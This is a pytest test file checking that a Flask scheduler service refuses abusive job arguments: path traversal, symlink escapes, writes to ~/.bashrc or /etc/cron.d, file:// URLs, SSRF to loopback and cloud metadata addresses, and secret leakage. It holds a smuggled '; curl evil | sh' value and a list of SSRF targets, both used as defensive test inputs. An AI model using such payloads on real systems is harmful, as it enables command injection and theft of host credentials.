"""SPEC §9, issue 15: whoever may create jobs cannot turn the shipped job functions against the
host. Argument values are checked at create time (400, naming the argument, nothing saved) and
again when the job runs; file jobs stay inside the job file roots, away from the service's own
files; http_check reaches public addresses only unless networks are allowed, redirects
included; secrets are references, resolved in the worker and never shown or logged."""

from __future__ import annotations

import http.server
import json
import logging
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from apscheduler.events import EVENT_JOB_EXECUTED
from flask import Flask
from flask.testing import FlaskClient

from scheduler_service.errors import ConfigError
from tests.support.api import add_job as added
from tests.support.api import assert_error
from tests.support.credentials import ADMIN, OPERATOR, VIEWER
from tests.support.waiting import wait_for

SECRET = "s3cr3t-Value-4711"


def job(job_id: str, func: str, args: list | None = None, **extra: Any) -> dict:
    return {
        "id": job_id,
        "func": f"jobs.{func}",
        "args": args or [],
        "trigger": "interval",
        "hours": 1,
        **extra,
    }


def refused(client: FlaskClient, body: dict, *fields: str) -> dict[str, str]:
    """POST ``body``: a 400 naming ``fields``, and no job saved; return the errors."""
    errors = assert_error(client.post("/scheduler/jobs", json=body, headers=ADMIN), 400, *fields)
    assert client.get(f"/scheduler/jobs/{body['id']}", headers=ADMIN).status_code == 404
    return errors["errors"]


def run_now(client: FlaskClient, job_id: str) -> dict:
    """Run the job now and wait for its outcome (the run goes through its executor)."""
    response = client.post(f"/scheduler/jobs/{job_id}/run?wait=20", headers=OPERATOR)
    assert response.status_code == 202, response.get_json()
    run = response.get_json()
    assert run["state"] in ("succeeded", "failed"), run
    return run


# -- file jobs: inside the roots, never the service's own files -------------------------------


def test_record_to_a_shell_rc_file_is_refused(client: FlaskClient) -> None:
    bashrc = os.path.expanduser("~/.bashrc")
    body = job("rc", "examples:record", [bashrc, "; curl evil | sh"])
    errors = refused(client, body, "args.0")
    assert "path: outside the job file roots" in errors["args.0"]
    body = job("rc", "examples:record", kwargs={"path": bashrc})
    assert "outside the job file roots" in refused(client, body, "kwargs.path")["kwargs.path"]


@pytest.mark.parametrize("escape", ["{root}/../escaped.log", "../escaped.log", "a/../../x.log"])
def test_dot_dot_cannot_leave_the_roots(client: FlaskClient, tmp_path: Path, escape: str) -> None:
    path = escape.format(root=tmp_path)  # a relative path lies in the first root: tmp_path
    refused(client, job("up", "examples:record", [path]), "args.0")
    refused(client, job("up", "examples:flaky", [path, 1]), "args.0")


def test_a_relative_path_lies_in_the_first_root_not_the_working_directory(
    client: FlaskClient, tmp_path: Path
) -> None:
    added(client, job("rel", "examples:record", ["logs/rel.log", "v"]))
    run = run_now(client, "rel")
    assert run["state"] == "succeeded", run
    assert (tmp_path / "logs" / "rel.log").read_text().endswith(" v\n")
    assert not (Path.cwd() / "logs" / "rel.log").exists()


def test_a_symlink_out_of_a_root_is_refused_at_create(client: FlaskClient, tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (tmp_path / "link").symlink_to(outside)
    refused(client, job("sym", "examples:record", [str(tmp_path / "link" / "x.log")]), "args.0")
    refused(client, job("sym", "ops:cleanup_old_files", [str(tmp_path / "link"), 0]), "args.0")


@pytest.mark.parametrize("executor", ["default", "process"])
def test_a_symlink_made_after_create_is_refused_at_run_time(
    client: FlaskClient, tmp_path: Path, executor: str
) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    (tmp_path / "link").mkdir()
    added(
        client, job("sym", "examples:record", [str(tmp_path / "link" / "x.log")], executor=executor)
    )
    (tmp_path / "link").rmdir()
    (tmp_path / "link").symlink_to(outside)  # the folder now leads out of the root

    run = run_now(client, "sym")
    assert run["state"] == "failed"
    assert run["error"] == "ValueError: path: outside the job file roots (SCHEDULER_JOB_FILE_ROOTS)"
    assert list(outside.iterdir()) == []


def test_the_instance_folders_files_are_refused(client: FlaskClient, tmp_path: Path) -> None:
    instance = tmp_path / "instance"  # inside the root (tmp_path), yet the service's own
    for path in (instance / "scheduler.sqlite", instance / "dev-admin.json", instance / "new"):
        errors = refused(client, job("own", "examples:record", [str(path)]), "args.0")
        assert "the service's own files" in errors["args.0"]
    refused(client, job("own", "ops:cleanup_old_files", [str(instance), 0]), "args.0")


def test_the_default_root_is_inside_the_instance_folder_but_nothing_else_there(
    make_app: Callable[..., Flask], tmp_path: Path
) -> None:
    client = make_app(SCHEDULER_JOB_FILE_ROOTS=None).test_client()
    instance = tmp_path / "instance"
    added(client, job("ok", "examples:record", ["x.log", "in"]))
    assert run_now(client, "ok")["state"] == "succeeded"
    assert (instance / "job-files" / "x.log").read_text().endswith(" in\n")
    for path in ("../jobs.sqlite", str(instance / "scheduler.sqlite"), str(tmp_path / "x.log")):
        refused(client, job("no", "examples:record", [path]), "args.0")


def test_the_config_file_and_extra_exclusions_are_refused_inside_a_root(
    make_app: Callable[..., Flask], tmp_path: Path
) -> None:
    config = tmp_path / "settings.toml"
    config.write_text('SCHEDULER_TIMEZONE = "UTC"\n')
    (tmp_path / "keep").mkdir()
    client = make_app(
        SCHEDULER_CONFIG_FILE=str(config), SCHEDULER_JOB_FILE_EXCLUDE=[str(tmp_path / "keep")]
    ).test_client()
    refused(client, job("cfg", "examples:record", [str(config)]), "args.0")
    refused(client, job("cfg", "examples:record", [str(tmp_path / "keep" / "a")]), "args.0")
    # A cleanup of the folder that holds it keeps it, however old.
    os.utime(config, (0, 0))
    (tmp_path / "old.txt").write_text("old")
    os.utime(tmp_path / "old.txt", (0, 0))
    added(client, job("clean", "ops:cleanup_old_files", [str(tmp_path), 1]))
    run = run_now(client, "clean")
    assert run["state"] == "succeeded", run
    assert run["result"]["deleted"] == ["old.txt"]
    assert config.exists() and not (tmp_path / "old.txt").exists()


def test_cleanup_dry_run_on_etc_is_refused(client: FlaskClient) -> None:
    body = job("etc", "ops:cleanup_old_files", ["/etc", 0], kwargs={"dry_run": True})
    assert "outside the job file roots" in refused(client, body, "args.0")["args.0"]


def test_a_root_change_is_enforced_at_run_time(
    make_app: Callable[..., Flask], tmp_path: Path
) -> None:
    (tmp_path / "a").mkdir()
    first = make_app(SCHEDULER_JOB_FILE_ROOTS=[str(tmp_path)]).test_client()
    added(first, job("moved", "examples:record", [str(tmp_path / "x.log")]))
    first.application.extensions["scheduler_service"].shutdown()
    # Restarted with a narrower root: the stored job is refused when it runs.
    second = make_app(SCHEDULER_JOB_FILE_ROOTS=[str(tmp_path / "a")]).test_client()
    run = run_now(second, "moved")
    assert run["state"] == "failed"
    assert "outside the job file roots" in run["error"]
    assert not (tmp_path / "x.log").exists()


# -- argument types -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("func", "args", "kwargs", "field", "problem"),
    [
        ("examples:sleep", ["x"], {}, "args.0", "seconds: Input should be a valid number"),
        ("examples:sleep", [], {"seconds": 1e9}, "kwargs.seconds", "less than or equal to 86400"),
        ("examples:sleep", [True], {}, "args.0", "seconds: Input should be a valid number"),
        ("examples:sleep", ["5"], {}, "args.0", "seconds: Input should be a valid number"),
        ("examples:print_test", [7], {}, "args.0", "name: Input should be a valid string"),
        ("examples:print_test", ["x" * 201], {}, "args.0", "name: String should have at most"),
        ("examples:fail", [], {"message": ["a"]}, "kwargs.message", "message: Input should be"),
        ("examples:flaky", ["f.log", -1], {}, "args.1", "failures: Input should be greater"),
        ("ops:http_check", ["https://1.1.1.1/", 99], {}, "args.1", "expect_status:"),
        ("ops:http_check", ["https://1.1.1.1/"], {"timeout": 0}, "kwargs.timeout", "greater"),
        ("ops:http_check", ["https://1.1.1.1/"], {"timeout": 301}, "kwargs.timeout", "less"),
        ("ops:http_check", ["file:///etc/passwd"], {}, "args.0", "url: must be an absolute http"),
        ("ops:disk_usage", ["relative"], {}, "args.0", "path: must be an absolute path"),
        ("ops:disk_usage", [], {"max_percent": 101}, "kwargs.max_percent", "less than or equal"),
        ("ops:cleanup_old_files", ["."], {"older_than_days": -1}, "kwargs.older_than_days", ">="),
        ("ops:cleanup_old_files", [".", 1, "../*"], {}, "args.2", "pattern: String should match"),
        ("ops:cleanup_old_files", [".", 1], {"dry_run": "yes"}, "kwargs.dry_run", "valid boolean"),
    ],
)
def test_bad_argument_values_are_a_400_naming_the_argument(
    client: FlaskClient, func: str, args: list, kwargs: dict, field: str, problem: str
) -> None:
    errors = refused(client, job("bad", func, args, kwargs=kwargs), field)
    assert problem.replace(">=", "greater than or equal to 0") in errors[field]


def test_a_patch_with_bad_arguments_changes_nothing(client: FlaskClient, tmp_path: Path) -> None:
    added(client, job("p", "examples:record", [str(tmp_path / "a.log")]))
    patch = {"args": ["/etc/cron.d/evil", "x"]}
    response = client.patch("/scheduler/jobs/p", json=patch, headers=ADMIN)
    assert_error(response, 400, "args.0")
    stored = client.get("/scheduler/jobs/p", headers=ADMIN).get_json()
    assert stored["args"] == [str(tmp_path / "a.log")]


def test_a_declared_job_with_bad_arguments_stops_start_up(make_app: Callable[..., Flask]) -> None:
    declared = job("evil", "examples:record", ["/etc/profile.d/evil.sh", "x"])
    with pytest.raises(ConfigError, match=r"job 'evil': field 'args.0': path: outside the job"):
        make_app(SCHEDULER_JOBS=[declared])


@pytest.mark.parametrize(
    "func",
    ["jobs._http:get_status", "jobs.ops:get_status", "jobs.examples:checked", "jobs._args:checked"],
)
def test_helpers_and_private_modules_cannot_be_scheduled(client: FlaskClient, func: str) -> None:
    refused(client, {**job("h", "examples:print_test", ["x"]), "func": func}, "func")
    tasks = {t["func"] for t in client.get("/scheduler/tasks", headers=VIEWER).get_json()}
    assert func not in tasks


def test_the_task_catalog_shows_each_parameters_json_schema(client: FlaskClient) -> None:
    tasks = {t["func"]: t for t in client.get("/scheduler/tasks", headers=VIEWER).get_json()}
    sleep = {p["name"]: p for p in tasks["jobs.examples:sleep"]["parameters"]}
    assert sleep["seconds"]["schema"] == {"type": "number", "minimum": 0, "maximum": 86400}
    assert "schema" not in sleep["cancel"]  # an Event: not for JSON
    check = {p["name"]: p for p in tasks["jobs.ops:http_check"]["parameters"]}
    assert check["expect_status"]["schema"]["maximum"] == 599
    assert check["url"]["schema"]["maxLength"] == 2048


# -- http_check: public addresses only, redirects included -----------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/",
        "http://127.1:8080/",
        "http://2130706433/",  # 127.0.0.1 as one number
        "http://localhost/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://0.0.0.0/",
        "http://10.1.2.3/",
        "http://192.168.0.1/",
        "https://172.16.5.4/",
        "http://100.64.0.1/",  # shared address space
        "http://169.254.169.254/latest/meta-data/",
        "http://168.63.129.16/",  # Azure's wire server: public, yet refused
        "http://[fd00:ec2::254]/",
        "http://224.0.0.1/",
        "http://240.0.0.1/",
    ],
)
def test_http_check_to_a_non_public_address_is_a_400(client: FlaskClient, url: str) -> None:
    errors = refused(client, job("h", "ops:http_check", [url]), "args.0")
    assert "an address jobs may not reach" in errors["args.0"]


def test_an_allowed_network_is_reachable_and_nothing_else(
    make_app: Callable[..., Flask],
) -> None:
    client = make_app(SCHEDULER_JOB_HTTP_ALLOWED_NETWORKS=["10.20.0.0/16"]).test_client()
    added(client, job("in", "ops:http_check", ["http://10.20.1.2/"]))
    refused(client, job("out", "ops:http_check", ["http://10.21.1.2/"]), "args.0")


class _Handler(http.server.BaseHTTPRequestHandler):
    """/ok: 200; /to?url=...: 302 there; every request counted on the server."""

    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        if self.path.startswith("/to?url="):
            self.send_response(302)
            self.send_header("Location", self.path.removeprefix("/to?url="))
        else:
            self.send_response(200 if self.path == "/ok" else 404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def serve() -> Iterator[Callable[[str], Any]]:
    """Start HTTP servers on given loopback addresses; each has ``url`` and ``hits``."""
    servers = []

    def start(host: str) -> Any:
        server = http.server.ThreadingHTTPServer((host, 0), _Handler)
        server.daemon_threads = True
        server.hits = []  # type: ignore[attr-defined]
        server.url = f"http://{host}:{server.server_address[1]}"  # type: ignore[attr-defined]
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}).start()
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def test_a_redirect_to_loopback_is_refused_at_run_time(
    make_app: Callable[..., Flask], serve: Callable[[str], Any]
) -> None:
    # Only 127.0.0.2 is allowed: 127.0.0.1 stays refused like any loopback address.
    client = make_app(SCHEDULER_JOB_HTTP_ALLOWED_NETWORKS=["127.0.0.2/32"]).test_client()
    allowed, target = serve("127.0.0.2"), serve("127.0.0.1")
    added(client, job("fine", "ops:http_check", [f"{allowed.url}/ok"]))
    assert run_now(client, "fine")["state"] == "succeeded"  # the allowed server answers

    added(client, job("hop", "ops:http_check", [f"{allowed.url}/to?url={target.url}/ok"]))
    run = run_now(client, "hop")
    assert run["state"] == "failed"
    assert "refused: the host resolves to an address jobs may not reach" in run["error"]
    assert target.hits == []  # never reached
    assert allowed.hits == ["/ok", f"/to?url={target.url}/ok"]


# -- secrets: references, resolved in the worker, never shown or logged ----------------------


@pytest.mark.parametrize("executor", ["default", "process"])
def test_a_secret_reference_is_resolved_at_run_time_and_never_shown(
    client: FlaskClient,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    executor: str,
) -> None:
    monkeypatch.setenv("JOB_SECRET_TOKEN", SECRET)
    log = tmp_path / "secret.log"
    reference = {"secret": "JOB_SECRET_TOKEN"}
    added(client, job("s", "examples:record", [str(log), reference], executor=executor))

    shown = client.get("/scheduler/jobs/s", headers=VIEWER).get_json()
    assert shown["args"] == [str(log), reference]
    with caplog.at_level(logging.DEBUG):
        run = run_now(client, "s")
    assert run["state"] == "succeeded", run
    assert log.read_text().endswith(f" {SECRET}\n")  # the job got the value
    assert "record: appended value '***'" in run["log"]
    history = client.get("/scheduler/runs?job_id=s", headers=VIEWER).get_data(as_text=True)
    assert SECRET not in history and SECRET not in json.dumps(run)
    assert SECRET not in caplog.text


def test_a_job_that_echoes_a_secret_leaves_no_trace_of_it(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("JOB_SECRET_ECHO", SECRET)
    added(client, job("echo", "examples:print_test", [{"secret": "JOB_SECRET_ECHO"}]))
    added(client, job("boom", "examples:fail", [{"secret": "JOB_SECRET_ECHO"}]))
    with caplog.at_level(logging.INFO):
        echoed, failed = run_now(client, "echo"), run_now(client, "boom")
    assert echoed["result"] == "Hello, ***"
    assert failed["error"] == "RuntimeError: ***"
    for run in (echoed, failed):
        assert SECRET not in json.dumps(run)
    assert "Hello, ***" in caplog.text and SECRET not in caplog.text


def test_apschedulers_listeners_see_the_return_value_masked(
    app: Flask, client: FlaskClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JOB_SECRET_TOKEN", SECRET)
    seen: list[Any] = []
    scheduler = app.extensions["scheduler_service"].scheduler
    scheduler.add_listener(lambda event: seen.append(event.retval), EVENT_JOB_EXECUTED)
    added(client, job("s", "examples:record", ["x.log", {"secret": "JOB_SECRET_TOKEN"}]))
    assert run_now(client, "s")["state"] == "succeeded"
    wait_for(lambda: seen, what="the listener called")
    assert seen[0]["value"] == "***"
    assert (tmp_path / "x.log").read_text().endswith(f" {SECRET}\n")


@pytest.mark.parametrize(
    ("reference", "problem"),
    [
        ({"secret": "SCHEDULER_ADMIN_PASSWORD"}, "may not be referenced"),
        ({"secret": "SCHEDULER_DATABASE_URL"}, "may not be referenced"),
        ({"secret": "PATH"}, "may not be referenced"),
        ({"secret": "HOME"}, "may not be referenced"),
        ({"secret": "JOB-SECRET"}, "names an environment variable"),
        ({"secret": 5}, "names an environment variable"),
        ({"secret": "JOB_SECRET_X", "default": "y"}, "and nothing more"),
    ],
)
def test_a_reference_to_a_variable_not_allowed_is_a_400(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, reference: dict, problem: str
) -> None:
    monkeypatch.setenv("SCHEDULER_ADMIN_PASSWORD", SECRET)  # read by no job, ever
    body = job("x", "examples:print_test", kwargs={"name": reference})
    assert problem in refused(client, body, "kwargs.name")["kwargs.name"]


def test_even_an_allow_all_never_reaches_the_services_settings(
    make_app: Callable[..., Flask], monkeypatch: pytest.MonkeyPatch
) -> None:
    client = make_app(SCHEDULER_JOB_SECRETS=["*"]).test_client()
    monkeypatch.setenv("SCHEDULER_X_TOKEN", SECRET)  # after start-up: not a setting's name
    added(client, job("home", "examples:print_test", [{"secret": "HOME"}]))
    refused(client, job("adm", "examples:print_test", [{"secret": "SCHEDULER_X_TOKEN"}]), "args.0")


def test_a_missing_variable_is_accepted_with_a_warning_and_fails_the_run(
    client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING):
        added(client, job("m", "examples:print_test", [{"secret": "JOB_SECRET_MISSING"}]))
    assert "JOB_SECRET_MISSING, which is not set here" in caplog.text
    run = run_now(client, "m")
    assert run["state"] == "failed"
    assert run["error"] == (
        "SecretUnavailable: args.0: the environment variable JOB_SECRET_MISSING is not set "
        "in the process that runs the job"
    )


def test_a_secret_url_is_checked_when_the_job_runs(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Its value is unknown at create time: the run refuses a private address, and says so
    # without the URL (a password in it stays hidden).
    monkeypatch.setenv("JOB_SECRET_URL", f"http://ops:{SECRET}@127.0.0.1:9/health")
    added(client, job("u", "ops:http_check", [{"secret": "JOB_SECRET_URL"}]))
    run = run_now(client, "u")
    assert run["state"] == "failed"
    assert "url: the host resolves to an address jobs may not reach" in run["error"]
    assert SECRET not in json.dumps(run)
